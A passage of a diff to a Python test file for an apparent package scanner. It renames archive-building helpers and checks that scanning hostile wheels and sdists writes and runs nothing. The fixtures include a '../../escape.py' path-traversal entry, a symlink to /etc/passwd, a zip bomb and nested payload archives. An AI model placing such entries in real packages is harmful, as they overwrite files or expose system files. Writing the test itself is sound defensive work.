         if not self.on or threading.get_ident() != self.thread:
             return
         if event == "open":
-            path, mode, flags = args
+            _path, mode, flags = args
             if (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
                 isinstance(flags, int) and flags & _WRITE_FLAGS
             ):
@@ -870,15 +786,15 @@ def watching() -> Iterator[_Watch]:
 
 def test_reading_and_scanning_write_nothing_and_run_nothing(tmp_path: Path, zip_bomb: bytes) -> None:
     samples = {
-        WHEEL: wheel_of(
+        WHEEL: bare_wheel_bytes(
             {
                 "demo/__init__.py": HIDDEN,
                 "demo/data.bin": b"\0" * 100,
                 "../../escape.py": PAYLOAD,
-                "demo/n.zip": zip_of([("a.py", PAYLOAD)]),
+                "demo/n.zip": zip_bytes([("a.py", PAYLOAD)]),
             }
         ),
-        SDIST: tar_of(
+        SDIST: tar_bytes(
             [
                 ("demo-1.0/setup.py", HIDDEN.encode()),
                 tar_info("demo-1.0/link", tarfile.SYMTYPE, linkname="/etc/passwd"),
@@ -887,7 +803,7 @@ def test_reading_and_scanning_write_nothing_and_run_nothing(tmp_path: Path, zip_
             ]
         ),
         "bomb-1.0-py3-none-any.whl": zip_bomb,
-        "demo-2.0.tar.gz": sdist_of({"demo/__init__.py": "(" * 1000})[:300],
+        "demo-2.0.tar.gz": bare_sdist_bytes({"demo/__init__.py": "(" * 1000})[:300],
     }
     for name, data in samples.items():
         (tmp_path / name).write_bytes(data)
